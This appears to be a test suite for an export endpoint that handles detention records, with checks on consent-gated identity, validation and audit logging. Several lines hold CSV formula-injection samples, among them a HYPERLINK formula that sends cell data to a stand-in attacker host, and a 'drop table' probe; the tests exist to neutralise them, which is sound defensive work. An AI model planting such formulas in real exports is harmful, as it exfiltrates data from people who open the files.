// Exports (GET /api/export and the client that finishes them), on SQLite and PostgreSQL: CSV and
// JSON, choice of fields, identity opened only by the exporter and only where role and consent
// allow, formula injection neutralised, bad input refused before a byte is written, the audit
// entry, and a few thousand rows streamed.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { BACKENDS } from './support/backends.ts';
import { startTestServer, type TestServer } from './support/server.ts';
import { addMember, logIn, setUpOrganization, type LoggedIn } from './support/org.ts';
import { query } from './support/db.ts';
import { createRecord, type Made } from './support/records.ts';
import { finishExport, ExportStreamError } from '../src/core/exports/decrypt.ts';
import { CsvReader, csvCell, csvLine } from '../src/core/exports/csv.ts';
import { DEFAULT_FIELDS, EXPORT_SCHEMA } from '../src/core/exports/fields.ts';
import { initialsOf } from '../src/core/records/names.ts';
import { Keyring } from '../src/core/keyring.ts';

const DETENTION = '030102000000';
const ENTRAPMENT = '990201000000';
const message = async (response: Response) => ((await response.json()) as { error: { code: string; message: string } }).error;

async function* chunks(body: ReadableStream<Uint8Array>): AsyncGenerator<Uint8Array> {
  const reader = body.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return;
    yield value;
  }
}
async function* from(text: string, size = 7): AsyncGenerator<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}
async function collect(pieces: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const piece of pieces) out += piece;
  return out;
}
const parseCsv = (text: string): string[][] => {
  const reader = new CsvReader();
  const rows = reader.push(text);
  const last = reader.end();
  return last ? [...rows, last] : rows;
};

describe('export formats', () => {
  it('writes RFC 4180 cells and neutralises formulas', () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(30), '30');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('two\r\nlines'), '"two\r\nlines"');
    for (const evil of ['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd']) {
      assert.ok(/^"?'/.test(csvCell(evil)), `${JSON.stringify(evil)} starts with an apostrophe`);
    }
    assert.equal(csvCell(csvCell('=1+1')), csvCell('=1+1'), 'neutralising twice changes nothing');
    assert.equal(csvLine(['a', null, 1]), 'a,,1\r\n');
  });

  it('reads CSV back in any chunking', () => {
    const text = csvLine(['a', 'b,c', 'd "e"']) + csvLine(['x\r\ny', '', 'z']);
    for (const size of [1, 2, 3, 5, 100]) {
      const reader = new CsvReader();
      const rows: string[][] = [];
      for (let i = 0; i < text.length; i += size) rows.push(...reader.push(text.slice(i, i + size)));
      assert.equal(reader.end(), null);
      assert.deepEqual(rows, [['a', 'b,c', 'd "e"'], ['x\r\ny', '', 'z']]);
    }
  });

  it('makes initials', () => {
    assert.equal(initialsOf('Leyla Məmmədova-Əliyeva'), 'L. M.-Ə.');
    assert.equal(initialsOf('  руслан  алиев '), 'Р. А.');
  });

  it('refuses a JSON export that was cut off', async () => {
    const head = `{"schema":"${EXPORT_SCHEMA}","exportedAt":"x","fields":["act.code"],"rows":[\n{"act.code":"A-0001"},\n{"act.code":"A-0002"}`;
    await assert.rejects(collect(finishExport(from(head), { format: 'json', keyring: null })), ExportStreamError);
    await assert.rejects(collect(finishExport(from(`${head}\n],"rowCount":3}\n`), { format: 'json', keyring: null })), ExportStreamError);
    const whole = await collect(finishExport(from(`${head}\n],"rowCount":2}\n`), { format: 'json', keyring: null }));
    assert.equal((JSON.parse(whole) as { rows: unknown[] }).rows.length, 2);
  });
});

for (const backend of BACKENDS) {
  describe(`exports on ${backend}`, () => {
    let server: TestServer;
    let admin: LoggedIn;
    let documenter: LoggedIn;
    let viewer: LoggedIn;
    let place: string;
    let incident: Made;
    const people: Record<string, Made> = {};

    /** What the server sends, as bytes arrive. */
    const raw = (member: LoggedIn, search: string, headers: Record<string, string> = {}) => fetch(`${server.url}/api/export?${search}`, { headers: { cookie: member.cookie, ...headers } });
    /** The finished file, as the exporter's browser or CLI makes it. */
    async function exported(member: LoggedIn, search: string, keyring: Keyring | null = member.keyring): Promise<string> {
      const response = await raw(member, search);
      assert.equal(response.status, 200, await response.clone().text());
      const format = new URLSearchParams(search).get('format') === 'json' ? 'json' : 'csv';
      return collect(finishExport(chunks(response.body!), { format, keyring }));
    }
    const auditExports = async () =>
      (await query<{ actor: string; detail: string }>(server, "select actor, detail from audit_log where action = 'export.made' order by seq")).map((r): Record<string, unknown> => ({ actor: r.actor, ...(JSON.parse(r.detail) as Record<string, unknown>) }));

    before(async () => {
      server = await startTestServer(backend);
      await setUpOrganization(server);
      admin = await logIn(server);
      documenter = await addMember(server, admin, 'documenter', 'doc@example.org');
      viewer = await addMember(server, admin, 'viewer', 'viewer@example.org');
      // A label someone could type to attack whoever opens the CSV in a spreadsheet.
      const response = await admin.post('/api/registry', { kind: 'place', code: 'binagadi-police', labels: { en: '=HYPERLINK("http://evil.example/?"&A1)', az: 'Binəqədi polis', ru: 'Бинагади' }, placeKind: 'police', appealDays: null });
      assert.equal(response.status, 201);
      place = ((await response.json()) as { id: string }).id;
      incident = await create('incident', { start: { date: '2026-11-01', precision: 'day' }, end: { date: null, precision: 'unknown' }, placeIds: [place], monitoringStatus: 'open' }, { title: 'Hotel', description: 'x' });
      const person = (consentSharing: string, namePreference: string, fields: Record<string, unknown>) =>
        create('person', { countingUnit: 'individual', groupSize: null, ageRange: '26-35', consentSharing, namePreference, reprisalRisk: 'high' }, fields);
      people.named = await person('un', 'name', { name: 'Leyla Məmmədova', otherNames: 'Lala', contacts: '+994 50 000 00 01' });
      people.initials = await person('public', 'initials', { name: 'Orxan Əliyev', otherNames: 'Oxi' });
      people.refused = await person('none', 'name', { name: 'Kamran Secretov', otherNames: 'K' });
      people.anonymous = await person('public', 'anonymous', { name: 'Nigar Hiddenova' });
      const act = (who: Made, typeCode: string, date: string, precision = 'day') =>
        create('act', { incidentId: incident.id, personId: who.id, typeCode, start: { date, precision }, end: { date: null, precision: 'unknown' }, placeId: place }, { statedReason: 'minor hooliganism' });
      const held = await act(people.named!, DETENTION, '2026-11-01');
      await act(people.initials!, ENTRAPMENT, '2026-11-02');
      await act(people.refused!, DETENTION, '2026-11', 'month');
      await act(people.anonymous!, ENTRAPMENT, '2026-12-05');
      const detention = { status: 'held', heldAt: place, custodyStart: null, lawyerAccess: 'none', familyAccess: 'unknown', legalProvisionId: null, chargedArticle: '221.2.1', courtId: null, hearingDate: null, decision: 'detention', decisionDate: '2026-11-02', fineAmount: null, detentionDays: 30, sentenceStart: null, releasedOn: null };
      assert.equal((await documenter.post(`/api/acts/${held.id}/detention`, { version: 0, detention })).status, 200);
    });
    after(async () => {
      await server?.close();
    });
    const create = (type: string, plain: Record<string, unknown>, fields: Record<string, unknown>) => createRecord(documenter, type, plain, fields);

    it('exports CSV with every plain field by default, one row per act, formulas neutralised', async () => {
      const text = await exported(viewer, 'format=csv');
      assert.ok(text.endsWith('\r\n'));
      const [header, ...rows] = parseCsv(text);
      assert.deepEqual(header, DEFAULT_FIELDS);
      assert.equal(rows.length, 4);
      const col = (name: string) => header!.indexOf(name);
      assert.deepEqual(rows.map((r) => r[col('act.code')]), ['A-0001', 'A-0002', 'A-0003', 'A-0004']);
      assert.equal(rows[0]![col('act.type')], DETENTION);
      assert.equal(rows[0]![col('act.typeLabel')], 'Detention');
      assert.equal(rows[0]![col('arrest.expectedRelease')], '2026-12-01');
      assert.equal(rows[0]![col('arrest.detentionDays')], '30');
      assert.equal(rows[0]![col('arrest.chargedArticle')], '221.2.1');
      assert.equal(col('arrest.chargedArticle'), col('arrest.legalProvision') + 1, 'beside the legal provision');
      assert.equal(rows[1]![col('arrest.status')], '', 'an act without a detention has empty arrest cells');
      assert.equal(rows[0]![col('act.placeLabel')], `'=HYPERLINK("http://evil.example/?"&A1)`, 'the formula shows as text');
      assert.equal(rows[0]![col('victim.consentSharing')], 'un');
      assert.ok(!text.includes('Leyla') && !text.includes('hooliganism'), 'nothing sealed in a plain export');
      // The server's own stream is the same file when no identity is asked for.
      const direct = await raw(viewer, 'format=csv&lang=az');
      assert.match(direct.headers.get('content-type')!, /^text\/csv/);
      assert.match(direct.headers.get('content-disposition')!, /attachment; filename="vigil-export-\d{4}-\d{2}-\d{2}\.csv"/);
      assert.equal(direct.headers.get('x-vigil-export-rows'), '4');
      assert.match(await direct.text(), /Binəqədi polis/, 'labels in the language asked for');
      assert.ok((await exported(viewer, 'format=csv&bom=1')).startsWith('\uFEFFevent.code,'));
    });

    it('exports JSON with the fields chosen, in schema vigil-export/1', async () => {
      const doc = JSON.parse(await exported(viewer, 'format=json&fields=act.code,act.type,victim.code,arrest.status,arrest.chargedArticle&to=2026-11-30')) as {
        schema: string;
        fields: string[];
        filters: Record<string, unknown>;
        rows: Record<string, unknown>[];
        rowCount: number;
      };
      assert.equal(doc.schema, 'vigil-export/1');
      assert.deepEqual(doc.fields, ['act.code', 'act.type', 'victim.code', 'arrest.status', 'arrest.chargedArticle']);
      assert.deepEqual(doc.filters, { from: null, to: '2026-11-30', incident: null });
      assert.equal(doc.rowCount, 3, 'the December act is after the range');
      assert.deepEqual(doc.rows[0], { 'act.code': 'A-0001', 'act.type': DETENTION, 'victim.code': 'P-0001', 'arrest.status': 'held', 'arrest.chargedArticle': '221.2.1' });
      assert.deepEqual(Object.keys(doc.rows[1]!), doc.fields);
      // A month-precise date counts when the month overlaps the range.
      const november = JSON.parse(await exported(viewer, `format=json&fields=act.code&from=2026-11-15&to=2026-11-30&incident=${incident.code}`)) as { rows: { 'act.code': string }[] };
      assert.deepEqual(november.rows.map((r) => r['act.code']), ['A-0003']);
      const empty = JSON.parse(await exported(viewer, 'format=json&from=2030-01-01')) as { rows: unknown[]; rowCount: number };
      assert.deepEqual([empty.rows, empty.rowCount], [[], 0]);
    });

    it('names a person only where consent allows, opened by the exporter, never by the server', async () => {
      const fields = 'victim.code,victim.name,victim.otherNames,victim.consentSharing';
      const serverSent = await (await raw(admin, `format=csv&fields=${fields}`)).text();
      for (const secret of ['Leyla', 'Orxan', 'Kamran', 'Nigar', 'Lala']) assert.ok(!serverSent.includes(secret), 'the server never sends a name in the clear');
      assert.equal(parseCsv(serverSent)[0]!.at(-1), '_identity');
      assert.equal(parseCsv(serverSent).slice(1).filter((r) => r.at(-1)).length, 2, 'sealed identity only for the two who consented');

      for (const member of [admin, documenter]) {
        const csv = parseCsv(await exported(member, `format=csv&fields=${fields}`));
        assert.deepEqual(csv[0], fields.split(','));
        assert.deepEqual(csv.slice(1), [
          ['P-0001', 'Leyla Məmmədova', 'Lala', 'un'],
          ['P-0002', 'O. Ə.', '', 'public'],
          ['P-0003', '', '', 'none'],
          ['P-0004', '', '', 'public'],
        ]);
        const json = JSON.parse(await exported(member, `format=json&fields=${fields}`)) as { rows: Record<string, unknown>[] };
        assert.deepEqual(json.rows.map((r) => r['victim.name']), ['Leyla Məmmədova', 'O. Ə.', null, null]);
        assert.ok(json.rows.every((r) => !('_identity' in r)));
      }
      // Without the records key (e.g. a client that did not open it), identity cells stay empty.
      const unopened = parseCsv(await exported(admin, `format=csv&fields=${fields}`, new Keyring()));
      assert.deepEqual(unopened.slice(1).map((r) => r[1]), ['', '', '', '']);
    });

    it('refuses identity fields to viewers, and bad input, in the user language, before writing anything', async () => {
      const forbidden = await raw(viewer, 'format=csv&fields=victim.code,victim.name');
      assert.equal(forbidden.status, 403);
      assert.equal((await message(forbidden)).code, 'forbidden');
      const before = (await auditExports()).length;
      for (const [search, code] of [
        ['format=xml', 'unknown-choice'],
        ['fields=act.code,victim.genderIdentity', 'unknown-field'],
        ['fields=act.code,act.code', 'unknown-field'],
        ['from=2026-13-01', 'bad-date'],
        ['from=2026-12-01&to=2026-11-01', 'bad-date'],
        ['incident=I-9999', 'unknown-reference'],
        ['incident=drop table', 'unknown-reference'],
        ['format=csv&format=json', 'bad-request'],
        ['bom=yes', 'bad-request'],
      ] as const) {
        const response = await raw(admin, search, { 'accept-language': 'ru' });
        assert.equal(response.status, 400, search);
        assert.match(response.headers.get('content-type')!, /^application\/json/);
        const error = await message(response);
        assert.equal(error.code, code, search);
        assert.match(error.message, /[а-яё]/i, 'in Russian');
      }
      assert.equal((await raw(admin, 'fields=nope&lang=az')).status, 400);
      assert.equal((await fetch(`${server.url}/api/export`)).status, 401);
      assert.equal((await auditExports()).length, before, 'a refused export is not an export');
    });

    it('records every export in the audit log, without content', async () => {
      await exported(documenter, `format=json&fields=act.code,victim.name&from=2026-11-01&incident=${incident.id}`);
      const entry = (await auditExports()).at(-1)!;
      assert.deepEqual(entry, {
        actor: documenter.login.member.id,
        format: 'json',
        fields: 'act.code,victim.name',
        from: '2026-11-01',
        to: null,
        incident: incident.id,
        rows: 4,
        complete: true,
      });
      const all = JSON.stringify(await query(server, "select * from audit_log where action = 'export.made'"));
      assert.ok(!all.includes('Leyla') && !all.includes('Orxan'));
    });

    it('streams a few thousand rows in order, in both formats', async () => {
      const bulk = 3000;
      const series = backend === 'postgres' ? `generate_series(1, ${bulk}) as n(i)` : `n`;
      const cte = backend === 'postgres' ? '' : `with recursive n(i) as (select 1 union all select i + 1 from n where i < ${bulk}) `;
      await query(
        server,
        `${cte}insert into acts (id, key_id, key_envelope, sealed, version, created_at, created_by, updated_at, updated_by, date_start, date_start_precision, date_end, date_end_precision, incident_id, person_id, type_code, place_id)
         select 'bulk-' || n.i, a.key_id, a.key_envelope, a.sealed, 1, a.created_at, a.created_by, a.updated_at, a.updated_by, a.date_start, a.date_start_precision, a.date_end, a.date_end_precision, a.incident_id, a.person_id, a.type_code, a.place_id
         from ${series}, acts a where a.seq = 1`,
      );
      const total = bulk + 4;
      const response = await raw(admin, 'format=json&fields=act.code,victim.name');
      assert.equal(response.headers.get('x-vigil-export-rows'), String(total));
      let batches = 0;
      const doc = JSON.parse(await collect(finishExport(chunks(response.body!), { format: 'json', keyring: admin.keyring, onRows: () => (batches += 1) }))) as { rows: { 'act.code': string; 'victim.name': string | null }[]; rowCount: number };
      assert.equal(doc.rowCount, total);
      assert.equal(doc.rows.length, total);
      assert.ok(batches > 1, 'progress is reported along the way');
      assert.equal(doc.rows.at(-1)!['act.code'], `A-${total}`);
      assert.equal(doc.rows.at(-1)!['victim.name'], 'Leyla Məmmədova', 'the bulk acts are all of the first person');
      const csv = parseCsv(await exported(viewer, 'format=csv&fields=act.code'));
      assert.equal(csv.length, total + 1);
      assert.deepEqual(csv.slice(1).map((r) => r[0]), Array.from({ length: total }, (_, i) => `A-${String(i + 1).padStart(4, '0')}`));
    });
    it('records a stopped export too, with how far it went', async () => {
      const bulk = 40_000;
      const series = backend === 'postgres' ? `generate_series(1, ${bulk}) as n(i)` : `n`;
      const cte = backend === 'postgres' ? '' : `with recursive n(i) as (select 1 union all select i + 1 from n where i < ${bulk}) `;
      await query(
        server,
        `${cte}insert into acts (id, key_id, key_envelope, sealed, version, created_at, created_by, updated_at, updated_by, date_start, date_start_precision, date_end, date_end_precision, incident_id, person_id, type_code, place_id)
         select 'more-' || n.i, a.key_id, a.key_envelope, a.sealed, 1, a.created_at, a.created_by, a.updated_at, a.updated_by, a.date_start, a.date_start_precision, a.date_end, a.date_end_precision, a.incident_id, a.person_id, a.type_code, a.place_id
         from ${series}, acts a where a.seq = 1`,
      );
      const stop = new AbortController();
      const response = await fetch(`${server.url}/api/export?format=json`, { headers: { cookie: viewer.cookie }, signal: stop.signal });
      const reader = response.body!.getReader();
      await reader.read();
      stop.abort();
      await reader.closed.catch(() => undefined);
      let entry: Record<string, unknown> | undefined;
      for (let i = 0; i < 50 && !entry; i++) {
        entry = (await auditExports()).find((e) => e.actor === viewer.login.member.id && e.complete === false);
        if (!entry) await new Promise((r) => setTimeout(r, 100));
      }
      assert.ok(entry, 'the stopped export is in the audit log');
      assert.ok((entry.rows as number) < bulk, `it says how far it went (${String(entry.rows)} rows)`);
      // The server goes on answering, and a whole export still works.
      assert.equal((await raw(viewer, 'format=csv&fields=act.code&incident=I-0001')).status, 200);
    });
  });
}
